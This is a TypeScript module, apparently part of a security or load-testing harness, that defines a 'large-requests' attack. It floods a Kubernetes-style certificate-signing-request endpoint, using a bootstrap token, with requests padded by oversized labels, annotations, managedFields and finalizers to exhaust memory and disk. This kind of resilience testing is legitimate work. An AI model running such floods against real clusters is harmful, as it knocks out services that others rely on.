import type {Attack} from '../attack.ts'
import {CSRS, inTurn, many, requestFor} from './bodies.ts'

const METADATA = [
  {labels: many(60_000, '')},
  {annotations: {text: 'x'.repeat(250_000)}},
  {annotations: many(20_000, 'x')},
  {
    managedFields: Array.from({length: 2000}, (_, n) => ({
      manager: `m${n}`,
      operation: 'Update',
      apiVersion: 'v1',
    })),
  },
  {finalizers: Array.from({length: 10_000}, (_, n) => `example.com/f${n}`)},
]

/** Certificate requests that weigh as much as they may. */
export const largeRequests: Attack = {
  name: 'large-requests',
  aim: 'memory and disk by large certificate requests of a token',
  run: ({holdings, shoot, flood}) =>
    flood({perSecond: 10, atOnce: 4}, async (number) => {
      const request = await requestFor('large')
      const metadata = {...request.metadata, ...inTurn(METADATA, number)}
      const body = JSON.stringify({...request, metadata})
      return shoot(holdings.bootstrap, {method: 'POST', path: CSRS, body})
    }),
}
